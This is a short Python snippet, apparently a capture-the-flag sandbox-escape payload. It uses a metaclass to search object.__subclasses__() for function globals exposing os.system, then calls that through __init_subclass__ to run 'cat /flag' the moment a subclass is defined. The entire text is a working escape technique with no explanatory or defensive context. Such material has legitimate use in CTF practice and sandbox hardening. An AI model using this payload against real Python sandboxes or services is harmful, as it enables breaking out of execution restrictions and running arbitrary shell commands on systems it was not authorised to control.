# technique: metaclass __new__ and __init_subclass__ run attacker code at class creation, reaching os.system via subclasses
class Meta(type):
    def __new__(mcls, name, bases, ns):
        cls = super().__new__(mcls, name, bases, ns)
        for sub in object.__subclasses__():
            init = sub.__dict__.get("__init__")
            g = getattr(init, "__globals__", None)
            if not g:
                continue
            if callable(g.get("system")):
                cls.run = staticmethod(g["system"])
                break
            if "os" in g:
                cls.run = staticmethod(g["os"].system)
                break
        return cls

class Base(metaclass=Meta):
    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        cls.run("cat /flag")

class Trigger(Base):
    pass
